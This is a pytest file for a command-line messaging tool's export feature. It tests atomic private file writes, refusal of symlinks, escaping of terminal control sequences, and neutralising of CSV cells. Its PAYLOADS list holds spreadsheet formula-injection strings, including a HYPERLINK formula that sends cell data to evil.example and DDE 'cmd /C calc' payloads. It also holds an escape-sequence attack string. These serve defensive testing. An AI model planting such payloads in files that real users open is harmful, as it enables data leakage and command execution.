"""What cams-tui writes and prints: export files whole, private, never through a link; CSV
cells a spreadsheet reads as text; no terminal control sequence from outside printed raw."""

from __future__ import annotations

import csv
import io
import json
import os
import signal
import stat
import subprocess
import sys
import time
from pathlib import Path

import pytest

from cams_tui.api.models import MassMessageOptions
from cams_tui.cli import main
from cams_tui.engine.journal import Journal, PlannedBatch, Reject
from cams_tui.untrusted import csv_cell, escape_controls

OPTIONS = MassMessageOptions(template_code="TPL", language="en", From="2000001")
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\tcmd",
    "\r=1+1",
]
TERMINAL_ATTACK = "\x1b]0;pwned\x07\x1b[2J\x9b31m"


def _job(data: Path, recipients: int = 10, rejects: list[str] | None = None) -> str:
    per_batch = 1000
    sender_list = lambda b, n: "[" + ",".join(f'{{"To":"63917{b:03d}{i:04d}"}}' for i in range(n)) + "]"  # noqa: E731
    batches = [
        PlannedBatch.of(min(per_batch, recipients - start), sender_list(b, min(per_batch, recipients - start)))
        for b, start in enumerate(range(0, recipients, per_batch))
    ]
    with Journal(data) as journal:
        return journal.create_job(
            options=OPTIONS, params={}, batches=batches, endpoint="http://127.0.0.1:9",
            rejects=[Reject(line, text, "not a number") for line, text in enumerate(rejects or [], start=2)],
        )


def test_export_o_is_private_atomic_and_replaces_the_old_file(tmp_path: Path) -> None:
    data = tmp_path / "data"
    job_id = _job(data)
    out = tmp_path / "out.csv"
    out.write_text("old\n")
    os.chmod(out, 0o644)
    assert main(["export", job_id, "-o", str(out), "--data-dir", str(data)]) == 0
    assert stat.S_IMODE(out.stat().st_mode) == 0o600
    assert len(list(csv.DictReader(out.open()))) == 10
    assert [p.name for p in tmp_path.iterdir() if p.name.endswith(".tmp")] == []


def test_export_o_refuses_a_symlink_and_a_folder(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    data = tmp_path / "data"
    job_id = _job(data)
    victim = tmp_path / "victim.txt"
    victim.write_text("keep me\n")
    link = tmp_path / "link.csv"
    link.symlink_to(victim)
    assert main(["export", job_id, "-o", str(link), "--data-dir", str(data)]) == 2
    assert "symbolic link" in capsys.readouterr().err
    assert victim.read_text() == "keep me\n" and link.is_symlink()
    assert main(["export", job_id, "-o", str(tmp_path), "--data-dir", str(data)]) == 2
    assert "is a folder" in capsys.readouterr().err
    assert main(["export", job_id, "-o", str(tmp_path / "nowhere" / "x.csv"), "--data-dir", str(data)]) == 2
    assert "does not exist" in capsys.readouterr().err


def test_a_kill_mid_export_leaves_the_old_file_whole(tmp_path: Path) -> None:
    data = tmp_path / "data"
    job_id = _job(data, recipients=300_000)
    out = tmp_path / "out.csv"
    out.write_text("the previous export\n")
    process = subprocess.Popen(
        [sys.executable, "-m", "cams_tui", "export", job_id, "-o", str(out), "--data-dir", str(data)],
        stdout=subprocess.DEVNULL, stderr=subprocess.PIPE,
    )
    deadline = time.monotonic() + 60
    while time.monotonic() < deadline and process.poll() is None:
        partial = [p for p in tmp_path.glob(".out.csv.*.tmp") if p.stat().st_size > 0]
        if partial:
            break
        time.sleep(0.005)
    assert partial, "the export never wrote its temporary file"
    process.send_signal(signal.SIGKILL)
    process.wait(timeout=30)
    assert process.returncode == -signal.SIGKILL
    assert out.read_text() == "the previous export\n"


def test_csv_cells_that_a_spreadsheet_would_run_are_text(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    data = tmp_path / "data"
    job_id = _job(data, recipients=2, rejects=PAYLOADS)
    out = tmp_path / "out.csv"
    assert main(["export", job_id, "-o", str(out), "--data-dir", str(data)]) == 0
    rows = list(csv.DictReader(out.open(newline="")))
    rejected = [row["to"] for row in rows if row["status"] == "rejected"]
    assert rejected == ["'" + payload for payload in PAYLOADS]
    assert all(row["to"].isdigit() for row in rows if row["status"] != "rejected")
    # JSON Lines keeps the values as they are (it is data, not a sheet).
    assert main(["export", job_id, "--format", "jsonl", "--data-dir", str(data)]) == 0
    lines = [json.loads(line) for line in capsys.readouterr().out.splitlines()]
    assert [line["to"] for line in lines if line["status"] == "rejected"] == PAYLOADS
    assert csv_cell("639171234567") == "639171234567" and csv_cell(3) == 3 and csv_cell("a=b") == "a=b"


def test_terminal_control_sequences_are_printed_escaped(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("CAMS_TUI_CONFIG", str(tmp_path / "no-config.toml"))
    data = tmp_path / "data"
    job_id = _job(data, recipients=2, rejects=[TERMINAL_ATTACK])
    assert main(["export", job_id, "--data-dir", str(data)]) == 0
    out = capsys.readouterr().out
    assert "\x1b" not in out and "\x07" not in out and "\x9b" not in out
    assert "\\x1b]0;pwned\\x07\\x1b[2J\\x9b31m" in out
    # JSON stays JSON, and reads back the same text.
    assert main(["export", job_id, "--format", "jsonl", "--data-dir", str(data)]) == 0
    out = capsys.readouterr().out
    assert "\x1b" not in out and "\x9b" not in out
    assert TERMINAL_ATTACK in [json.loads(line)["to"] for line in out.splitlines()]
    # An error naming a file from the command line.
    code = main(["send", str(tmp_path / f"{TERMINAL_ATTACK}.toml"), "--dry-run", "--data-dir", str(data)])
    err = capsys.readouterr().err
    assert code == 2 and "\x1b" not in err and "\\x1b]0;pwned" in err
    # The jobs listing, with a template code from outside.
    with Journal(data) as journal:
        journal.create_job(
            options=MassMessageOptions(template_code=f"T{TERMINAL_ATTACK}", language="en", From="1"), params={},
            batches=[PlannedBatch.of(1, '[{"To":"639170000001"}]')], endpoint="http://127.0.0.1:9",
        )
    assert main(["jobs", "--data-dir", str(data)]) == 0
    out = capsys.readouterr().out
    assert "\x1b" not in out and "T\\x1b]0;pwned" in out


def test_escape_controls_keeps_newlines_and_text() -> None:
    assert escape_controls("a\nb\tc\u202ed") == "a\nb\\x09c\\u202ed"
    assert escape_controls("Ängström 日本") == "Ängström 日本"
    assert json.loads('"' + escape_controls("\x9b\x1b", json_style=True) + '"') == "\x9b\x1b"


def test_the_progress_line_erase_still_reaches_the_terminal() -> None:
    from cams_tui.untrusted import EscapingStream

    buffer = io.StringIO()
    EscapingStream(buffer).write("\r\x1b[2K12 of 40 sent \x1b[2J")
    assert buffer.getvalue() == "\r\x1b[2K12 of 40 sent \\x1b[2J"


def test_a_listing_read_only_in_part_exits_quietly(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from cams_tui.engine.journal import jobs as journal_module

    numbers = iter(range(10_000))
    monkeypatch.setattr(journal_module, "_new_job_id", lambda: f"job-{next(numbers):05d}")
    data = tmp_path / "data"
    for _ in range(400):  # well over a pipe's buffer of JSON
        _job(data, recipients=1)
    env = {**os.environ, "CAMS_TUI_CONFIG": str(tmp_path / "none.toml"), "CAMS_TUI_DATA_DIR": str(data)}
    result = subprocess.run(
        f"{sys.executable} -m cams_tui jobs --json | head -c 100 >/dev/null; echo \"status ${{PIPESTATUS[0]}}\"",
        shell=True, executable="/bin/bash", capture_output=True, text=True, env=env, timeout=60,
    )
    assert result.stdout.strip() == "status 0", result
    assert result.stderr == "", result.stderr
